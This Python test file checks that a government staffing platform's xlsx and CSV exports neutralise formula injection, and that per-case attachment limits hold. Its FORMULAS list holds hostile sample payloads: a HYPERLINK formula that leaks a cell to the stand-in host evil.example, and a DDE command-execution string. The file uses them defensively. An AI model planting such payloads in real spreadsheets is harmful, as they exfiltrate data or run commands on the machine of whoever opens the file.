"""Operational holes closed: formula cells in exports, the keyed audit chain and its head, the
worker waiting for the database, the render fork server's lifetime, attachments per case."""
import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from bianzhi.extensions import db
from bianzhi.ledger.models import Person, Unit
from tests.conftest import login

PLATFORM = Path(__file__).resolve().parent.parent / "platform" / "bianzhi"
B05 = "12330621B05000000X"  # the demo's one reconciliation finding (超编 1 名)
CLERK1_UNIT = "12330621B01000000X"
# what a spreadsheet would run: each leading character, with a payload after it
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def _cells(body):
    """Every cell of the first sheet as (value, data_type); a live formula has data_type 'f'."""
    book = load_workbook(io.BytesIO(body))
    return [(cell.value, cell.data_type) for row in book.active.iter_rows() for cell in row]


def _neutral(value):
    return "'" + value


# -- 5. formula injection ------------------------------------------------------------------------

def test_reconciliation_export_writes_formula_like_unit_names_as_text(app):
    reviewer = login(app.test_client(), "reviewer1")
    for payload in FORMULAS:
        with app.app_context():
            db.session.scalar(select(Unit).where(Unit.code == B05)).name = payload
            db.session.commit()
        response = reviewer.get("/reconciliation.xlsx")
        assert response.status_code == 200
        cells = _cells(response.data)
        assert all(kind != "f" for _, kind in cells), (payload, cells)
        assert (_neutral(payload), "s") in cells, (payload, cells)
        assert ("统一社会信用代码", "s") in cells  # the header is still there (and bold)
        book = load_workbook(io.BytesIO(response.data))
        assert book.active["A1"].font.bold


def test_query_export_and_roster_and_audit_csv_neutralise_every_formula_start(app):
    with app.app_context():
        people = db.session.scalars(select(Person).join(Unit, Unit.id == Person.unit_id)
                                    .where(Unit.code == CLERK1_UNIT).order_by(Person.id).limit(len(FORMULAS))).all()
        for person, payload in zip(people, FORMULAS):
            person.name = payload
        db.session.commit()
    clerk = login(app.test_client(), "clerk1")
    for path in ("/queries/builder.xlsx?target=person&f0=unit.code&o0=eq&v0=" + CLERK1_UNIT,
                 f"/units/{CLERK1_UNIT}/roster.xlsx"):
        response = clerk.get(path)
        body = response.get_data()
        response.close()  # the export streams a temporary file
        assert response.status_code == 200, path
        cells = _cells(body)
        assert all(kind != "f" for _, kind in cells), path
        values = {value for value, _ in cells}
        for payload in FORMULAS:
            assert _neutral(payload) in values and payload not in values, (path, payload)

    auditor = login(app.test_client(), "auditor1")
    from bianzhi.audit.operations import record
    with app.app_context():
        for payload in FORMULAS:
            record(None, "test.formula", payload)
        db.session.commit()
    body = auditor.get("/audit/export.csv?action=test.formula").data.decode("utf-8-sig")
    targets = {row[4] for row in list(csv.reader(io.StringIO(body, newline="")))[1:]}
    assert targets == {_neutral(p) for p in FORMULAS}


def test_only_the_exports_module_writes_spreadsheet_cells():
    """One writer: nothing else in the platform builds a workbook or a CSV writer of its own."""
    writers = re.compile(r"\bWorkbook\s*\(|csv\.(writer|DictWriter)\s*\(|from openpyxl import [^\n]*\bWorkbook\b")
    offenders = [str(path.relative_to(PLATFORM)) for path in PLATFORM.rglob("*.py")
                 if path.name != "exports.py" and writers.search(path.read_text(encoding="utf-8"))]
    assert offenders == []


# -- 11c. attachments per case -------------------------------------------------------------------

def test_uploads_per_case_counts_the_cases_attachments_on_every_path(app, api, monkeypatch):
    from bianzhi.accounts.models import User
    from bianzhi.cases import operations as cases
    from bianzhi.cases.models import Attachment
    from bianzhi.errors import ValidationFailed
    from tests.fixtures.cases import only_task, start

    monkeypatch.setitem(app.config, "UPLOADS_PER_CASE", 5)
    clerk = api("clerk1")
    case = start(clerk)
    url = f"/api/v1/cases/{case['id']}/attachments"

    def upload(count):
        files = [(io.BytesIO(b"%PDF-1.4 page " + str(i).encode()), f"材料{i}.pdf") for i in range(count)]
        return clerk.post(url, data={"file": files}, content_type="multipart/form-data")

    assert upload(3).status_code == 201
    refused = upload(3)  # each request within the limit, the case beyond it
    assert refused.status_code == 422, refused.json
    assert refused.json["error"]["message"] == "每个案件最多 5 个附件：本案已有 3 个，本次上传 3 个"
    assert refused.json["error"]["fields"]["attachments"] == ["本案还可上传 2 个附件"]
    assert upload(2).status_code == 201

    # the web's path: files given with a step (cases.complete_task) are counted with the case's too
    with app.app_context():
        reviewer = db.session.scalar(select(User).where(User.username == "reviewer1"))
        with pytest.raises(ValidationFailed, match="本案已有 5 个，本次上传 1 个"):
            cases.complete_task(reviewer, only_task(case), {"decision": "approve", "opinion": "同意"},
                                files=[("意见.pdf", b"%PDF-1.4 opinion")])
        db.session.rollback()
        assert db.session.scalar(select(db.func.count(Attachment.id))
                                 .where(Attachment.case_id == case["id"])) == 5
